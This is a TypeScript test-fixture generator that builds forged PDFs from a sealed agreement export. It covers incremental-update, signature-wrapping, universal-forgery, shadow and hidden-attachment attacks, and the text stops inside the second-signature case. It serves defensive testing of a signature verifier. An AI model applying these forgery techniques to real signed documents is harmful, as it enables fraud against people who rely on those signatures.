/**
 * Known attacks on PDF signatures, built from a genuine sealed Accord export.
 * Used by `make-pdf-attacks.ts` (writes test/fixtures/pdf-attacks/) and by the
 * corpus test (which rebuilds every file from genuine.pdf and checks it is the
 * committed one, byte for byte). Deterministic: fixed keys from a seed, fixed
 * signing times.
 *
 * Sources: Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, “1 Trillion
 * Dollar Refund: How To Spoof PDF Signatures” (CCS 2019: universal signature
 * forgery, incremental saving, signature wrapping); Mainka, Mladenov,
 * Rohlmann, Schwenk, “Shadow Attacks: Hiding and Replacing Content in Signed
 * PDFs” (NDSS 2021: hide, replace, hide-and-replace).
 */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import forge from 'node-forge';
import { P12Signer } from '@signpdf/signer-p12';
import { SignPdf } from '@signpdf/signpdf';
import { pdflibAddPlaceholder } from '@signpdf/placeholder-pdf-lib';
import { PDFDocument, PDFName, PDFArray, PDFDict, PDFRef, StandardFonts, rgb, PDFHexString, PDFString } from 'pdf-lib';
import { isRef, PdfView, readXrefChain, type PdfDict, type PdfRef, type PdfValue } from '../../electron/pdf/pdf-structure';
import type { SealingIdentity } from '../../electron/pdf/certificate';
import { parseAccordFile } from '../../shared/model/accord-file';
import { contentHash } from '../../shared/model/canonical';

/** One attack file: its name (file name without .pdf), the family it belongs to, and what it does. */
export interface PdfAttack {
  name: string;
  family: 'incremental-update' | 'signature-wrapping' | 'universal-signature-forgery' | 'shadow' | 'second-signature' | 'hash-claim' | 'hidden-attachment';
  /**
   * `intact` only for a shadow attack's prepared document as the victim sealed
   * it (before the attacker's update): a seal proves the bytes are what was
   * sealed, not that nothing was hidden in them before.
   */
  expected: 'intact' | 'not-intact';
  description: string;
  bytes: Buffer;
}

/** The signing time of every signature the generator makes (a fixed moment, so the files are reproducible). */
export const ATTACK_SIGNING_TIME = new Date('2026-11-23T10:00:00Z');

/** A deterministic byte source from a seed (SHA-256 in counter mode), for reproducible test keys only. */
function seededPrng(seed: string) {
  let counter = 0;
  let pool = '';
  return {
    getBytesSync(count: number): string {
      while (pool.length < count) pool += createHash('sha256').update(`${seed}:${counter++}`).digest('binary');
      const out = pool.slice(0, count);
      pool = pool.slice(count);
      return out;
    },
  };
}

/**
 * A self-signed sealing identity made from a seed: the same key and
 * certificate every run (a test key, never a real one). The victim's
 * (“Dana Facilitator”) seals the genuine file; the attacker's signs the second signature.
 */
export function seededIdentity(seed: string, commonName: string, organisation: string): SealingIdentity {
  const prng = seededPrng(seed);
  const keys = forge.pki.rsa.generateKeyPair({ bits: 1024, e: 0x10001, prng } as forge.pki.rsa.GenerateKeyPairOptions);
  const certificate = forge.pki.createCertificate();
  certificate.publicKey = keys.publicKey;
  certificate.serialNumber = `01${forge.util.bytesToHex(prng.getBytesSync(15))}`;
  certificate.validity.notBefore = new Date('2026-01-01T00:00:00Z');
  certificate.validity.notAfter = new Date('2036-01-01T00:00:00Z');
  const attributes = [
    { name: 'commonName', value: commonName },
    { name: 'organizationName', value: organisation },
    { shortName: 'OU', value: 'Accord agreement seal (self-signed)' },
  ];
  certificate.setSubject(attributes);
  certificate.setIssuer(attributes);
  certificate.setExtensions([
    { name: 'basicConstraints', cA: false },
    { name: 'keyUsage', digitalSignature: true, nonRepudiation: true },
  ]);
  certificate.sign(keys.privateKey, forge.md.sha256.create());
  const asn1 = forge.pkcs12.toPkcs12Asn1(keys.privateKey, [certificate], 'test', { algorithm: '3des' });
  const fingerprint = createHash('sha256').update(Buffer.from(forge.asn1.toDer(forge.pki.certificateToAsn1(certificate)).getBytes(), 'binary')).digest('hex');
  return { p12: Buffer.from(forge.asn1.toDer(asn1).getBytes(), 'binary'), passphrase: 'test', subject: `${commonName}, ${organisation}`, selfSigned: true, fingerprint };
}

let identities: { victim: SealingIdentity; attacker: SealingIdentity } | undefined;

/** The corpus's two seeded identities: the victim (who sealed genuine.pdf) and the attacker. */
export function attackIdentities(): { victim: SealingIdentity; attacker: SealingIdentity } {
  identities ??= { victim: seededIdentity('accord-pdf-attacks-victim', 'Dana Facilitator', 'Acme GmbH'), attacker: seededIdentity('accord-pdf-attacks-attacker', 'Dana Facilitator', 'Acme GmbH') };
  return identities;
}

/** The genuine file's structure, as the attacks need it. */
interface Genuine {
  bytes: Buffer;
  view: PdfView;
  xref: number;
  size: number;
  root: PdfRef;
  info: PdfRef | undefined;
  range: [number, number, number, number];
  sigRef: PdfRef;
  sigDict: PdfDict;
  pageRef: PdfRef;
  embeddedFileRef: PdfRef;
  acroFormRef: PdfRef;
  widgetRef: PdfRef;
}

function refOf(dict: PdfDict, key: string): PdfRef {
  const value = dict.entries.get(key);
  if (!isRef(value)) throw new Error(`the genuine file's /${key} is not a reference`);
  return value;
}

function inspect(bytes: Buffer): Genuine {
  const chain = readXrefChain(bytes);
  if (chain.length !== 1) throw new Error('the genuine file must have one revision');
  const view = new PdfView(bytes, chain);
  const root = refOf(view.trailer, 'Root');
  const info = view.trailer.entries.get('Info');
  const catalog = view.resolve(root) as PdfDict;
  const acroFormRef = refOf(catalog, 'AcroForm');
  const acroForm = view.resolve(acroFormRef) as PdfDict;
  const fields = view.get(acroForm, 'Fields') as PdfValue[];
  const widgetRef = fields.find((field) => (view.get(view.resolve(field) as PdfDict, 'FT') as { name?: string } | undefined)?.name === 'Sig') as PdfRef;
  const widget = view.resolve(widgetRef) as PdfDict;
  const sigRef = refOf(widget, 'V');
  const sigDict = view.resolve(sigRef) as PdfDict;
  const range = (view.get(sigDict, 'ByteRange') as number[]).slice(0, 4) as [number, number, number, number];
  const pages = view.get(catalog, 'Pages') as PdfDict;
  // The first page: down the page tree's first kids to a leaf.
  let pageRef = (view.get(pages, 'Kids') as PdfValue[])[0] as PdfRef;
  for (let node = view.resolve(pageRef) as PdfDict; (view.get(node, 'Type') as { name?: string } | undefined)?.name === 'Pages'; node = view.resolve(pageRef) as PdfDict) pageRef = (view.get(node, 'Kids') as PdfValue[])[0] as PdfRef;
  const names = view.get(catalog, 'Names') as PdfDict;
  const files = view.get(names, 'EmbeddedFiles') as PdfDict;
  const list = view.get(files, 'Names') as PdfValue[];
  const spec = view.resolve(list[1]) as PdfDict;
  const embeddedFileRef = refOf(view.get(spec, 'EF') as PdfDict, 'F');
  return { bytes, view, xref: chain[0]!.offset, size: view.trailer.entries.get('Size') as number, root, info: isRef(info) ? info : undefined, range, sigRef, sigDict, pageRef, embeddedFileRef, acroFormRef, widgetRef };
}

/** The raw text of an object's definition in the genuine file (`n 0 obj … endobj`), its body only. */
function bodyOf(g: Genuine, ref: PdfRef): string {
  const start = g.view.offsetOf(ref.num)!;
  const text = g.bytes.toString('latin1', start);
  const head = /^\d+ \d+ obj\s*/.exec(text)![0];
  return text.slice(head.length, text.indexOf('endobj')).trimEnd();
}

/** The agreement attached to the genuine file, changed as the attacker wants: any lead qualifies (fit ≥ D and engagement ≥ 1). */
export function maliciousAttachment(g: { view: PdfView; embeddedFileRef: PdfRef }): string {
  const stream = g.view.resolve(g.embeddedFileRef);
  if (!stream || typeof stream !== 'object' || Array.isArray(stream) || stream.kind !== 'stream') throw new Error('no attachment stream');
  const json = JSON.parse(g.view.decode(stream).toString('utf8')) as { agreement: { scoring: { mqlRule: { minFitGrade: string; minEngagement: number } } }; version: { contentHash: string } };
  json.agreement.scoring.mqlRule.minFitGrade = 'D';
  json.agreement.scoring.mqlRule.minEngagement = 1;
  const text = JSON.stringify(json);
  const parsed = parseAccordFile(text);
  if (!parsed.ok) throw new Error(`the attacker's agreement does not parse: ${parsed.message}`);
  // The attacker recomputes the hash the attachment records, so it agrees with itself.
  json.version.contentHash = contentHash(parsed.agreement);
  return JSON.stringify(json);
}

function streamObject(dict: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<<${dict} /Length ${data.length}>>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

function embeddedFileObject(json: string): Buffer {
  const data = deflateSync(Buffer.from(json, 'utf8'));
  return streamObject(` /Type /EmbeddedFile /Subtype /application#2Fjson /Params << /Size ${Buffer.byteLength(json)} >> /Filter /FlateDecode`, data);
}

/** A content stream drawing the attacker's rule over page 1 in Helvetica (font resource /FAtk). */
function maliciousTextStream(): Buffer {
  const text = 'BT /FAtk 18 Tf 1 0 0 rg 60 420 Td (MQL rule: fit >= D and engagement >= 1) Tj ET';
  return streamObject('', Buffer.from(text, 'latin1'));
}

/** An xref section for the given objects (number → offset), 20-byte entries, one subsection per run. */
function xrefTable(entries: Map<number, number | 'free'>): string {
  const numbers = [...entries.keys()].sort((x, y) => x - y);
  let out = 'xref\n';
  let index = 0;
  while (index < numbers.length) {
    let end = index;
    while (end + 1 < numbers.length && numbers[end + 1] === numbers[end]! + 1) end += 1;
    out += `${numbers[index]} ${end - index + 1}\n`;
    for (let at = index; at <= end; at += 1) {
      const entry = entries.get(numbers[at]!)!;
      out += entry === 'free' ? '0000000000 65535 f\r\n' : `${String(entry).padStart(10, '0')} 00000 n\r\n`;
    }
    index = end + 1;
  }
  return out;
}

/** Appends an incremental update: the objects given (new or replacing), an xref for them, a trailer with /Prev. */
function incrementalUpdate(base: Buffer, prevXref: number, size: number, root: PdfRef, info: PdfRef | undefined, objects: Map<number, Buffer>, options: { xref?: boolean; rootOverride?: PdfRef; free?: number[] } = {}): Buffer {
  const parts: Buffer[] = [base, Buffer.from('\n')];
  let length = base.length + 1;
  const entries = new Map<number, number | 'free'>();
  for (const [num, body] of objects) {
    entries.set(num, length);
    const chunk = Buffer.concat([Buffer.from(`${num} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(chunk);
    length += chunk.length;
  }
  for (const num of options.free ?? []) entries.set(num, 'free');
  if (options.xref === false) return Buffer.concat(parts);
  const newSize = Math.max(size, ...[...objects.keys()].map((num) => num + 1));
  const rootRef = options.rootOverride ?? root;
  const trailer = `trailer\n<< /Size ${newSize} /Root ${rootRef.num} ${rootRef.gen} R${info ? ` /Info ${info.num} ${info.gen} R` : ''} /Prev ${prevXref} >>\nstartxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(xrefTable(entries) + trailer, 'latin1'));
  return Buffer.concat(parts);
}

/** The page dictionary with an extra content stream and the Helvetica resource the attacker's text needs. */
function pageWithExtraContent(g: Genuine, contentRef: number, fontRef: number): Buffer {
  const page = g.view.resolve(g.pageRef) as PdfDict;
  let body = bodyOf(g, g.pageRef);
  const contents = page.entries.get('Contents');
  const list = Array.isArray(contents) ? contents.map((item) => (isRef(item) ? `${item.num} ${item.gen} R` : '')).join(' ') : isRef(contents) ? `${contents.num} ${contents.gen} R` : '';
  body = body.replace(/\/Contents\s*(\[[^\]]*\]|\d+ \d+ R)/, `/Contents [ ${list} ${contentRef} 0 R ]`);
  // The attacker's font goes into the page's own font resources (Chromium writes them as a direct dictionary).
  if (!/\/Font\s*<</.test(body)) throw new Error('the page has no direct /Font dictionary');
  body = body.replace(/\/Font\s*<</, `/Font <<\n/FAtk ${fontRef} 0 R`);
  return Buffer.from(body, 'latin1');
}

const helvetica = Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>', 'latin1');

/** The signature dictionary's text with its /ByteRange or /Contents replaced (or removed, for null). */
function sigDictVariant(g: Genuine, change: { byteRange?: string | null; contents?: string | null }): Buffer {
  let body = bodyOf(g, g.sigRef);
  if (change.byteRange !== undefined) body = body.replace(/\/ByteRange\s*\[[^\]]*\]/, change.byteRange === null ? '' : `/ByteRange ${change.byteRange}`);
  if (change.contents !== undefined) body = body.replace(/\/Contents\s*<[0-9a-fA-F]*>/, change.contents === null ? '' : `/Contents ${change.contents}`);
  return Buffer.from(body, 'latin1');
}

/** Seals a document (already with its placeholder) with an identity at the fixed signing time. */
async function sealAt(pdf: Buffer, identity: SealingIdentity): Promise<Buffer> {
  return Buffer.from(await new SignPdf().sign(pdf, new P12Signer(identity.p12, { passphrase: identity.passphrase }), ATTACK_SIGNING_TIME));
}

/**
 * A shadow document (Shadow Attacks, NDSS 2021): the genuine pages, with
 * content the attacker prepared before sealing, sealed again by the victim's
 * identity. `prepare` adds the shadow content; the seal is then placed as
 * Accord places it.
 */
async function shadowBase(genuine: Buffer, victim: SealingIdentity, prepare: (doc: PDFDocument) => Promise<void>): Promise<Buffer> {
  const doc = await PDFDocument.load(genuine, { updateMetadata: false });
  // The genuine seal's field, its signature and appearance are dropped: the victim seals the prepared document afresh.
  const form = doc.catalog.lookupMaybe(PDFName.of('AcroForm'), PDFDict);
  const fields = form?.lookupMaybe(PDFName.of('Fields'), PDFArray);
  for (const field of fields?.asArray() ?? []) {
    const widget = doc.context.lookup(field, PDFDict);
    const value = widget.get(PDFName.of('V'));
    const appearance = widget.lookupMaybe(PDFName.of('AP'), PDFDict)?.get(PDFName.of('N'));
    for (const ref of [value, appearance, field]) if (ref instanceof PDFRef) doc.context.delete(ref);
  }
  const formRef = doc.catalog.get(PDFName.of('AcroForm'));
  if (formRef instanceof PDFRef) doc.context.delete(formRef);
  doc.catalog.delete(PDFName.of('AcroForm'));
  for (const page of doc.getPages()) page.node.delete(PDFName.of('Annots'));
  await prepare(doc);
  pdflibAddPlaceholder({ pdfDoc: doc, reason: 'Version 1: Signed', contactInfo: 'Dana Facilitator', name: victim.subject, location: 'Acme GmbH', signatureLength: 8192, signingTime: ATTACK_SIGNING_TIME });
  return sealAt(Buffer.from(await doc.save({ useObjectStreams: false })), victim);
}

/** The attacks, in a fixed order. `victim` is the identity that sealed `genuine` (needed for the shadow documents, which the victim seals). */
export async function buildPdfAttacks(genuine: Buffer, victim: SealingIdentity, attacker: SealingIdentity): Promise<PdfAttack[]> {
  const g = inspect(genuine);
  const [, a, b] = g.range;
  const attacks: PdfAttack[] = [];
  const add = (name: string, family: PdfAttack['family'], description: string, bytes: Buffer) => attacks.push({ name, family, expected: name.endsWith('-base') ? 'intact' : 'not-intact', description, bytes });
  const evil = maliciousAttachment(g);
  const next = g.size;

  // Incremental saving attacks (ISA): the signed revision untouched, an update appended after it.
  add('isa-page-text', 'incremental-update', 'An incremental update adds a content stream to page 1 drawing “MQL rule: fit >= D and engagement >= 1” over the sealed page.', incrementalUpdate(genuine, g.xref, g.size, g.root, g.info, new Map([[g.pageRef.num, pageWithExtraContent(g, next, next + 1)], [next, maliciousTextStream()], [next + 1, helvetica]])));
  add('isa-attachment', 'incremental-update', 'An incremental update replaces the attached agreement.json (same object number) with one whose MQL rule is fit ≥ D and engagement ≥ 1, its recorded hash recomputed.', incrementalUpdate(genuine, g.xref, g.size, g.root, g.info, new Map([[g.embeddedFileRef.num, embeddedFileObject(evil)]])));
  add('isa-no-xref', 'incremental-update', 'The attachment is redefined after %%EOF with no cross-reference table or trailer (ISA variant: parsers that take the last definition of an object read it).', incrementalUpdate(genuine, g.xref, g.size, g.root, g.info, new Map([[g.embeddedFileRef.num, embeddedFileObject(evil)]]), { xref: false }));
  add('append-bytes', 'incremental-update', 'Bytes appended after the final %%EOF.', Buffer.concat([genuine, Buffer.from('\n% appended after sealing\n', 'latin1')]));

  // Signature wrapping (SWA), as issue 13 reproduced it.
  {
    const part1 = genuine.subarray(0, a);
    const hex = genuine.subarray(a, b);
    const part2 = genuine.subarray(b);
    const chain = readXrefChain(genuine);
    const entries = chain[0]!.entries;
    // Inserted after the signature value: filler up to the old startxref's offset, a full xref there, then the attacker's objects.
    const filler = g.xref - b;
    const objects: Buffer[] = [];
    const newSpec = next;
    const newFile = next + 1;
    const newContent = next + 2;
    const newFont = next + 3;
    const catalogBody = bodyOf(g, g.root).replace(/\/EmbeddedFiles\s*<<\s*\/Names\s*\[\s*(<[0-9A-Fa-f]+>|\([^)]*\))\s+\d+ \d+ R\s*\]/, (_match, label: string) => `/EmbeddedFiles <<\n/Names [ ${label} ${newSpec} 0 R ]`).replace(/\/AF\s*\[\s*\d+ \d+ R\s*\]/, `/AF [ ${newSpec} 0 R ]`);
    const specBody = bodyOf(g, (((g.view.get(g.view.get(g.view.get(g.view.resolve(g.root) as PdfDict, 'Names') as PdfDict, 'EmbeddedFiles') as PdfDict, 'Names') as PdfValue[])[1]) as PdfRef)).replace(/\/F\s+\d+ \d+ R/, `/F ${newFile} 0 R`);
    const sigCopy = (b2: number) => sigDictVariant(g, { byteRange: `[0 ${a} ${b2} ${genuine.length - b}]` });
    const defs = (b2: number) => [
      [g.root.num, Buffer.from(catalogBody, 'latin1')],
      [g.sigRef.num, sigCopy(b2)],
      [g.pageRef.num, pageWithExtraContent(g, newContent, newFont)],
      [newSpec, Buffer.from(specBody, 'latin1')],
      [newFile, embeddedFileObject(evil)],
      [newContent, maliciousTextStream()],
      [newFont, helvetica],
    ] as [number, Buffer][];
    // Two passes: the inserted length decides the copy's ByteRange, whose digits decide the length.
    let inserted = 0;
    let built = Buffer.alloc(0);
    for (let pass = 0; pass < 3; pass += 1) {
      const b2 = b + inserted;
      const shift = inserted;
      const table = new Map<number, number | 'free'>();
      for (const [num, entry] of entries) table.set(num, entry === 'free' ? 'free' : entry.offset >= b ? entry.offset + shift : entry.offset);
      const xrefStart = g.xref;
      objects.length = 0;
      // The table comes first (it must sit at the old startxref's offset); its offsets name objects after it.
      const trailerText = (t: Map<number, number | 'free'>) => `${xrefTable(t)}trailer\n<< /Size ${next + 4} /Root ${g.root.num} 0 R${g.info ? ` /Info ${g.info.num} 0 R` : ''} >>\n`;
      let provisional = trailerText(new Map([...table, ...defs(b2).map(([num]) => [num, 0] as [number, number])]));
      let at = xrefStart + provisional.length;
      const placed = new Map<number, number>();
      for (const [num, data] of defs(b2)) {
        placed.set(num, at);
        const chunk = Buffer.concat([Buffer.from(`${num} 0 obj\n`), data, Buffer.from('\nendobj\n')]);
        objects.push(chunk);
        at += chunk.length;
      }
      provisional = trailerText(new Map([...table, ...placed]));
      const body = `\n%${' '.repeat(Math.max(0, filler - 3))}\n`;
      const insert = Buffer.concat([Buffer.from(body.slice(0, filler), 'latin1'), Buffer.from(provisional, 'latin1'), ...objects]);
      built = Buffer.concat([part1, hex, insert, part2]);
      if (insert.length === inserted) break;
      inserted = insert.length;
    }
    add('swa-wrapping', 'signature-wrapping', 'Signature wrapping: after /Contents <…> the attacker inserts a full xref at the offset the old startxref points to, a copy of the signature dictionary whose ByteRange skips the inserted bytes, a new catalog, page and attachment (fit ≥ D and engagement ≥ 1); the signed bytes move behind.', built);
  }

  // Universal signature forgery (USF): the signature dictionary is replaced by one that cannot be checked, with the attacker's attachment.
  const usf = (name: string, description: string, change: { byteRange?: string | null; contents?: string | null }) =>
    add(name, 'universal-signature-forgery', description, incrementalUpdate(genuine, g.xref, g.size, g.root, g.info, new Map([[g.sigRef.num, sigDictVariant(g, change)], [g.embeddedFileRef.num, embeddedFileObject(evil)]])));
  usf('usf-byterange-missing', 'USF: the signature dictionary has no /ByteRange; the attachment is the attacker’s.', { byteRange: null });
  usf('usf-byterange-empty', 'USF: /ByteRange [] (empty); the attachment is the attacker’s.', { byteRange: '[]' });
  usf('usf-byterange-zero', 'USF: /ByteRange [0 0 0 0]; the attachment is the attacker’s.', { byteRange: '[0 0 0 0]' });
  usf('usf-byterange-overlap', 'USF: an overlapping /ByteRange (the second range starts inside the first); the attachment is the attacker’s.', { byteRange: `[0 ${b} ${a} ${genuine.length - a}]` });
  usf('usf-contents-missing', 'USF: the signature dictionary has no /Contents; the attachment is the attacker’s.', { contents: null });
  usf('usf-contents-zeroed', 'USF: /Contents is all zeros (the empty placeholder); the attachment is the attacker’s.', { contents: `<${'0'.repeat(b - a - 2)}>` });
  {
    const zeroed = Buffer.from(genuine);
    zeroed.fill(0x30, a + 1, b - 1);
    add('usf-contents-zeroed-in-place', 'universal-signature-forgery', 'USF in place: the signature value is overwritten with zeros, nothing else changed (same length, same offsets).', zeroed);
  }

  // Shadow attacks: the attacker prepares the document before the victim seals it, then changes what it shows with an update.
  {
    const font = StandardFonts.Helvetica;
    // Hide: the attacker's rule is on page 1 under a white cover (a form XObject); the update empties the cover.
    let coverNum = 0;
    const hideBase = await shadowBase(genuine, victim, async (doc) => {
      const page = doc.getPages()[0]!;
      const helv = await doc.embedFont(font);
      page.drawText('MQL rule: fit >= D and engagement >= 1', { x: 60, y: 420, size: 18, font: helv, color: rgb(1, 0, 0) });
      const coverContent = Buffer.from('1 1 1 rg 50 400 500 50 re f', 'latin1');
      const coverStream = doc.context.stream(coverContent, { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 595, 842], Resources: {} });
      const coverRef = doc.context.register(coverStream);
      coverNum = coverRef.objectNumber;
      const xobjects = (page.node.Resources() ?? doc.context.obj({})) as PDFDict;
      const xdict = (xobjects.lookup(PDFName.of('XObject')) as PDFDict | undefined) ?? doc.context.obj({});
      xdict.set(PDFName.of('Cover'), coverRef);
      xobjects.set(PDFName.of('XObject'), xdict);
      const drawCover = doc.context.register(doc.context.stream(Buffer.from('q /Cover Do Q', 'latin1')));
      const contents = page.node.lookup(PDFName.of('Contents'));
      if (contents instanceof PDFArray) contents.push(drawCover);
      else page.node.set(PDFName.of('Contents'), doc.context.obj([page.node.get(PDFName.of('Contents')) as PDFRef, drawCover]));
    });
    const hb = inspect(hideBase);
    add('shadow-hide-base', 'shadow', 'Shadow attack, the prepared document as sealed (hide): the attacker’s rule sits on page 1 under a white cover. Intact as sealed: it is what the victim sealed.', hideBase);
    add('shadow-hide', 'shadow', 'Shadow attack, hide (Mainka et al., NDSS 2021): an update replaces the cover form XObject with an empty one, revealing the attacker’s rule beneath.', incrementalUpdate(hideBase, hb.xref, hb.size, hb.root, hb.info, new Map([[coverNum, streamObject(' /Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /Resources << >>', Buffer.alloc(0))]])));

    // Replace: a form field on page 1 shows the agreed rule; the update rewrites its value and appearance.
    let appearanceNum = 0;
    let fieldNum = 0;
    const replaceBase = await shadowBase(genuine, victim, async (doc) => {
      const form = doc.getForm();
      const field = form.createTextField('rule');
      field.setText('MQL rule: fit >= B and engagement >= 2');
      field.addToPage(doc.getPages()[0]!, { x: 50, y: 400, width: 500, height: 40, borderWidth: 0 });
      field.updateAppearances(await doc.embedFont(font));
      fieldNum = field.ref.objectNumber;
      const widget = field.acroField.getWidgets()[0]!;
      const normal = widget.getNormalAppearance();
      appearanceNum = (normal instanceof PDFRef ? normal : (widget.dict.lookup(PDFName.of('AP'), PDFDict).get(PDFName.of('N')) as PDFRef)).objectNumber;
    });
    const rb = inspect(replaceBase);
    const fieldBody = bodyOf(rb, { kind: 'ref', num: fieldNum, gen: 0 }).replace(/\/V\s*(\([^)]*\)|<[^>]*>)/, `/V ${PDFHexString.fromText('MQL rule: fit >= D and engagement >= 1').toString()}`);
    const replaced = incrementalUpdate(replaceBase, rb.xref, rb.size, rb.root, rb.info, new Map([
      [fieldNum, Buffer.from(fieldBody, 'latin1')],
      [appearanceNum, streamObject(` /Type /XObject /Subtype /Form /BBox [ 0 0 500 40 ] /Resources << /Font << /FAtk ${rb.size} 0 R >> >>`, Buffer.from('/Tx BMC BT /FAtk 18 Tf 1 0 0 rg 2 12 Td (MQL rule: fit >= D and engagement >= 1) Tj ET EMC', 'latin1'))],
      [rb.size, helvetica],
    ]));
    add('shadow-replace-base', 'shadow', 'Shadow attack, the prepared document as sealed (replace): a form field on page 1 shows “fit >= B and engagement >= 2”. Intact as sealed.', replaceBase);
    add('shadow-replace', 'shadow', 'Shadow attack, replace: an update rewrites the form field’s value and appearance to “fit >= D and engagement >= 1” (a form fill, which many viewers allow after signing).', replaced);

    // Hide-and-replace: the sealed file carries an unreferenced second catalog and page tree; the update is only an xref and a trailer naming it the /Root.
    let shadowCatalog = 0;
    const harBase = await shadowBase(genuine, victim, async (doc) => {
      const shadow = await PDFDocument.create();
      const page = shadow.addPage([595, 842]);
      page.drawText('MQL rule: fit >= D and engagement >= 1', { x: 60, y: 420, size: 18, font: await shadow.embedFont(font), color: rgb(1, 0, 0) });
      const [copied] = await doc.copyPages(shadow, [0]);
      const pagesDict = doc.context.obj({ Type: 'Pages', Kids: [], Count: 1 });
      const pagesRef = doc.context.register(pagesDict);
      copied!.node.set(PDFName.of('Parent'), pagesRef);
      const pageRef = doc.context.register(copied!.node);
      (pagesDict.lookup(PDFName.of('Kids'), PDFArray)).push(pageRef);
      // The shadow catalog takes the AcroForm the seal will add: it is set once the placeholder exists (see below).
      const catalog = doc.context.obj({ Type: 'Catalog', Pages: pagesRef });
      shadowCatalog = doc.context.register(catalog).objectNumber;
      const originalSetter = doc.catalog.set.bind(doc.catalog);
      doc.catalog.set = (key, value) => {
        originalSetter(key, value);
        if (key === PDFName.of('AcroForm')) catalog.set(key, value);
      };
    });
    const hr = inspect(harBase);
    add('shadow-hide-and-replace-base', 'shadow', 'Shadow attack, the prepared document as sealed (hide-and-replace): an unreferenced second catalog and page tree with the attacker’s rule. Intact as sealed.', harBase);
    add('shadow-hide-and-replace', 'shadow', 'Shadow attack, hide-and-replace: the update holds no object at all, only an xref and a trailer whose /Root is the hidden catalog, so viewers show the attacker’s page.', incrementalUpdate(harBase, hr.xref, hr.size, hr.root, hr.info, new Map(), { rootOverride: { kind: 'ref', num: shadowCatalog, gen: 0 } }));
  }

  // The hash claim: a document sealed by the victim whose attachment is another agreement than the pages and metadata show (its own recorded hash recomputed).
  {
    const doc = await PDFDocument.load(genuine, { updateMetadata: false });
    const spec = doc.context.lookup((doc.catalog.lookup(PDFName.of('Names'), PDFDict).lookup(PDFName.of('EmbeddedFiles'), PDFDict).lookup(PDFName.of('Names'), PDFArray)).get(1), PDFDict);
    const fileRef = spec.lookup(PDFName.of('EF'), PDFDict).get(PDFName.of('F')) as PDFRef;
    doc.context.assign(fileRef, doc.context.flateStream(Buffer.from(evil, 'utf8'), { Type: 'EmbeddedFile', Subtype: 'application/json', Params: { Size: Buffer.byteLength(evil) } }));
    const resealed = await shadowBase(Buffer.from(await doc.save({ useObjectStreams: false })), victim, async () => undefined);
    add('sealed-attachment-mismatch', 'hash-claim', 'Sealed by the victim’s own key, but the attached agreement (fit ≥ D and engagement ≥ 1, its recorded hash recomputed) is not the one whose hash the pages and the metadata show.', resealed);
  }

  // Hidden attachments: sealed by the victim's own key, the attacker's agreement.json sits where a reader of the top-level
  // /Names array alone does not look (a /Kids leaf, another name-tree key), next to the genuine one, or cannot be parsed.
  // pdfdetach lists each of them as an attachment; the seal is valid, so only the content check can tell.
  {
    const hidden = async (name: string, description: string, change: (doc: PDFDocument, tree: PDFDict, names: PDFArray) => void) => {
      const doc = await PDFDocument.load(genuine, { updateMetadata: false });
      const tree = doc.catalog.lookup(PDFName.of('Names'), PDFDict).lookup(PDFName.of('EmbeddedFiles'), PDFDict);
      change(doc, tree, tree.lookup(PDFName.of('Names'), PDFArray));
      add(name, 'hidden-attachment', description, await shadowBase(Buffer.from(await doc.save({ useObjectStreams: false })), victim, async () => undefined));
    };
    const replaceData = (doc: PDFDocument, names: PDFArray, json: string) => {
      const fileRef = doc.context.lookup(names.get(1), PDFDict).lookup(PDFName.of('EF'), PDFDict).get(PDFName.of('F')) as PDFRef;
      doc.context.assign(fileRef, doc.context.flateStream(Buffer.from(json, 'utf8'), { Type: 'EmbeddedFile', Subtype: 'application/json', Params: { Size: Buffer.byteLength(json) } }));
    };
    await hidden('hidden-attachment-kids', 'The attacker’s agreement.json (fit ≥ D and engagement ≥ 1) is the only attachment, in a /Kids leaf of the EmbeddedFiles name tree instead of its top-level /Names; sealed by the victim’s key.', (doc, tree, names) => {
      replaceData(doc, names, evil);
      tree.delete(PDFName.of('Names'));
      const leaf = doc.context.obj({ Names: [PDFString.of('agreement.json'), names.get(1)], Limits: [PDFString.of('agreement.json'), PDFString.of('agreement.json')] });
      tree.set(PDFName.of('Kids'), doc.context.obj([doc.context.register(leaf)]));
    });
    await hidden('hidden-attachment-renamed-key', 'The attacker’s agreement.json (fit ≥ D and engagement ≥ 1) is listed under the name-tree key “agreement.json\\0”; its file specification still says agreement.json, as viewers show it; sealed by the victim’s key.', (doc, _tree, names) => {
      replaceData(doc, names, evil);
      names.set(0, PDFString.of('agreement.json\u0000'));
    });
    await hidden('hidden-attachment-extra', 'The genuine agreement.json and a second attachment, agreement-final.json, with the attacker’s rules (fit ≥ D and engagement ≥ 1); sealed by the victim’s key.', (doc, _tree, names) => {
      const file = doc.context.register(doc.context.flateStream(Buffer.from(evil, 'utf8'), { Type: 'EmbeddedFile', Subtype: 'application/json', Params: { Size: Buffer.byteLength(evil) } }));
      const spec = doc.context.register(doc.context.obj({ Type: 'Filespec', F: PDFString.of('agreement-final.json'), UF: PDFHexString.fromText('agreement-final.json'), EF: { F: file } }));
      names.push(PDFString.of('agreement-final.json'));
      names.push(spec);
    });
    await hidden('hidden-attachment-kids-loop', 'The EmbeddedFiles name tree’s /Kids leads back to itself (a loop a reader that walks without a bound never leaves), the attacker’s agreement.json in its /Names; sealed by the victim’s key.', (doc, tree, names) => {
      replaceData(doc, names, evil);
      const treeRef = doc.catalog.lookup(PDFName.of('Names'), PDFDict).get(PDFName.of('EmbeddedFiles'));
      const node = treeRef instanceof PDFRef ? treeRef : doc.context.register(tree);
      doc.catalog.lookup(PDFName.of('Names'), PDFDict).set(PDFName.of('EmbeddedFiles'), node);
      tree.set(PDFName.of('Kids'), doc.context.obj([node]));
    });
    await hidden('hidden-attachment-unparsable', 'The attached agreement.json is not JSON (its first bytes cut), so nothing can be checked against the pages; sealed by the victim’s key.', (doc, _tree, names) => {
      replaceData(doc, names, evil.slice(1));
    });
  }

  // A second signature: the attacker's update changes the attachment and adds its own valid signature over the whole file.
  {
    const sigNum = next;
    const widgetNum = next + 1;
    const placeholder = '0'.repeat(8192 * 2);
    const rangeSlot = '[0 0000000000 0000000000 0000000000]';
